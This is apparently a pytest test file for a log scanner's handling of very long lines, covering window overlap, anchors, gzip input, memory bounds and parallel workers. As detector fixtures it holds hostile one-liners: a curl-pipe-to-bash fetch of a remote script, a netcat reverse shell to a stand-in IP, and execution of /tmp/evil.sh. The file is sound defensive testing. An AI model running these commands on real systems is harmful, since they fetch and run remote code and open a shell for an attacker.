"""Lines longer than the scan window: scanned whole in bounded overlapping windows, each rule counted once per line,
line numbers right, anchors and word boundaries as in the whole line, memory bounded."""

from __future__ import annotations

import gzip
import io
import itertools
import tracemalloc
from pathlib import Path

import pytest

from workbench.logscan.engine import Scanner, ScanOptions
from workbench.logscan.longlines import CONTEXT, LongLine, utf8_core

WINDOW = 64 * 1024
STEP = WINDOW - WINDOW // 8  # window k starts at k * STEP (default overlap: an eighth of the window)
EVIL = b"curl -sSL http://203.0.113.7/p.sh | bash"
RULE = "exec.remote-script-to-shell"


def _scan(data: bytes, backend: str, **kw):
    options = ScanOptions(backend=backend, workers=1, **kw)
    return Scanner(options=options).scan_stream(io.BytesIO(data), "x.log")


def _line_with(offset: int, size: int, needle: bytes = EVIL) -> bytes:
    """A line of ``size`` bytes of filler with ``needle`` at ``offset`` (spaces around it)."""
    body = bytearray(b"A" * size)
    body[offset - 1 : offset + len(needle) + 1] = b" " + needle + b" "
    return bytes(body)


@pytest.mark.parametrize(
    "offset",
    [
        WINDOW,  # just past the first window
        1 << 20,  # 1 MiB into the line
        WINDOW - len(EVIL) // 2,  # across the end of window 0 (inside window 1)
        WINDOW + CONTEXT - len(EVIL) + 5,  # running into window 0's context bytes
        STEP,  # exactly where window 1 starts
        STEP - 1,  # one byte before window 1: inside window 0 and, but for its first byte, window 1 too
        2 * STEP + 3,  # in the overlap of windows 1 and 2
        8 * STEP - 10,  # across a later boundary
    ],
)
def test_indicator_anywhere_in_a_long_line_is_found_once(backend: str, offset: int) -> None:
    line = _line_with(offset, (1 << 20) + 200_000)
    data = b"before\n" + line + b"\nafter: nc -e /bin/sh 203.0.113.7 1\n"
    result = _scan(data, backend)
    assert [(m.line, m.rule_id) for m in result.matches] == [(2, RULE), (3, "revshell.netcat-exec")]
    assert result.stats[RULE].count == 1 and result.lines == 3 and result.complete
    match = result.matches[0]
    assert match.text.startswith(f"[line of {len(line)} bytes, from byte ")
    assert "curl -sSL http://203.0.113.7/p.sh | bash" in match.text
    assert match.before == ("before",) and match.after == ("after: nc -e /bin/sh 203.0.113.7 1",)


def test_many_occurrences_in_one_line_count_once(backend: str) -> None:
    filler = b"x" * 3000
    line = b" ".join([filler, EVIL] * 400)  # about 1.2 MB, the indicator in every window and overlap
    result = _scan(line + b"\n" + EVIL + b"\n", backend)
    assert [(m.line, m.rule_id) for m in result.matches] == [(1, RULE), (2, RULE)]
    assert result.stats[RULE].count == 2 and result.stats[RULE].last_line == 2


def test_short_lines_around_long_ones_keep_their_numbers(backend: str) -> None:
    lines = [b"ok"] * 3 + [_line_with(200_000, 300_000)] + [b"ok"] * 2 + [b"B" * 70_000] + [EVIL]
    result = _scan(b"\n".join(lines) + b"\n", backend, block_bytes=50_000)
    assert [(m.line, m.rule_id) for m in result.matches] == [(4, RULE), (8, RULE)]
    assert [w.line for w in result.warnings] == [4, 7] and result.lines == 8
    assert result.matches[1].before == ("ok", "B" * 2000 + "…[4096+ more characters]")  # a long neighbour: its head


def test_gzip_long_line(tmp_path: Path, backend: str) -> None:
    path = tmp_path / "x.log.gz"
    path.write_bytes(gzip.compress(_line_with(3 << 20, 4 << 20) + b"\n", compresslevel=1))
    result = Scanner(options=ScanOptions(backend=backend)).scan_path(path, "x.log.gz")
    assert [(m.line, m.rule_id) for m in result.matches] == [(1, RULE)] and result.compressed


def test_no_match_without_the_indicator(backend: str) -> None:
    """Negative: a 2 MiB line holding only the halves of the indicator, far apart, and look-alikes."""
    line = b"curl -sSL http://203.0.113.7/p.sh " + b"A" * (2 << 20) + b" | bash curlew sh"
    result = _scan(line + b"\n", backend)
    assert RULE not in result.stats


def test_line_start_anchor_is_not_a_window_start(backend: str) -> None:
    """``(?:^|\\s)\\+\\s+/tmp/...`` (xtrace of a temp-folder program): ``^`` must not match where a window starts."""
    glued = b"A" * (STEP - 1) + b"x+ /tmp/evil.sh " + b"B" * 70_000  # "+" exactly at window 1's start, after "x"
    spaced = b"A" * (STEP - 1) + b" + /tmp/evil.sh " + b"B" * 70_000
    assert "exec.temp-dir-execution" not in _scan(glued + b"\n", backend).stats
    assert _scan(spaced + b"\n", backend).stats["exec.temp-dir-execution"].count == 1


def test_line_end_anchor_is_not_a_window_end(backend: str) -> None:
    """``env\\s*$`` (environment dump): at a window's end the line goes on, so no match; at the line's end, one."""
    end = WINDOW + CONTEXT  # where window 0's data ends
    inside = b"A" * (end - 4) + b" env" + b"B" * 100_000
    at_end = b"A" * 100_000 + b" env"
    assert "ci.env-dump" not in _scan(inside + b"\n", backend).stats
    assert _scan(at_end + b"\n", backend).stats["ci.env-dump"].count == 1


class _Endless(io.RawIOBase):
    """A single line of ``size`` filler bytes ending with the indicator, produced on demand (never held whole)."""

    def __init__(self, size: int) -> None:
        self.left, self.tail = size, b" " + EVIL + b"\n"

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:  # type: ignore[override]
        if self.left > 0:
            n = min(len(buffer), self.left)
            buffer[:n] = b"Z" * n
            self.left -= n
            return n
        n = min(len(buffer), len(self.tail))
        buffer[:n], self.tail = self.tail[:n], self.tail[n:]
        return n


def test_memory_stays_bounded_on_a_huge_single_line(backend: str) -> None:
    size = 48 << 20
    stream = io.BufferedReader(_Endless(size), buffer_size=1 << 16)
    tracemalloc.start()
    try:
        result = Scanner(options=ScanOptions(backend=backend)).scan_stream(stream, "one-line.log")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [(m.line, m.rule_id) for m in result.matches] == [(1, RULE)]
    assert result.bytes_scanned == size + len(EVIL) + 2 and result.lines == 1
    assert peak < 12 << 20, f"peak {peak / 2**20:.1f} MiB for a {size >> 20} MiB line"


def test_two_workers_agree_around_a_huge_line(tmp_path: Path) -> None:
    """The slice boundary right after a line of 2 MiB: context before the boundary is that line's head."""
    path = tmp_path / "ci.log"
    half = b"".join(b"2026-11-14T03:00:%02dZ step %d\n" % (i % 60, i) for i in range(40_000))
    path.write_bytes(half + _line_with(1 << 20, 2 << 20) + b"\n" + EVIL + b"\n" + half + _line_with(5, 80_000))
    options = {"block_bytes": 64 * 1024, "parallel_min_bytes": 1}
    serial = Scanner(options=ScanOptions(workers=1, **options)).scan_path(path, "ci.log")
    for workers in (2, 3):
        assert Scanner(options=ScanOptions(workers=workers, **options)).scan_path(path, "ci.log") == serial
    assert [m.line for m in serial.matches] == [40_001, 40_002, 80_003]


def test_splitter_covers_the_line_exactly() -> None:
    line = bytes(range(256)) * 2000
    for piece in (1000, 65_536, 1 << 20):
        splitter = LongLine(65_536, 8192)
        windows = [w for i in range(0, len(line), piece) for w in splitter.feed(line[i : i + piece])]
        windows += list(splitter.finish())
        assert windows[0].first and windows[-1].last and windows[-1].end == len(line)
        for w in windows:
            assert w.core == line[w.offset : w.end] and line[w.offset - w.pos :].startswith(w.data)
        for a, b in itertools.pairwise(windows):
            assert b.offset == a.next_offset and a.end - b.offset == 8192


@pytest.mark.parametrize(("size", "overlap"), [(1000, 600), (1000, 10)])
def test_splitter_refuses_overlaps_that_cannot_work(size: int, overlap: int) -> None:
    with pytest.raises(ValueError, match="overlap"):
        LongLine(size, overlap)


def test_utf8_core_trims_cut_characters_only() -> None:
    text = "é━𝄞".encode()
    assert utf8_core(text[1:]) == "━𝄞".encode() and utf8_core(text[:-1]) == "é━".encode()
    assert utf8_core(b"\xff ok") == b"\xff ok"  # invalid in the line itself: kept, so it is reported


def test_unless_applies_near_the_match_only(backend: str) -> None:
    """An exclusion (``unless``) in the match's window rules the match out; one far away in the line does not."""
    near = b"A" * 100_000 + b" curl -s https://x.example/a | sh " + b"B" * 100_000
    far = b"curl -s https://x.example/a -o f " + b"A" * 300_000 + b" | sh"
    assert set(_scan(near + b"\n", backend).stats) == {RULE}
    assert set(_scan(far + b"\n", backend).stats) == {"exec.remote-download"}
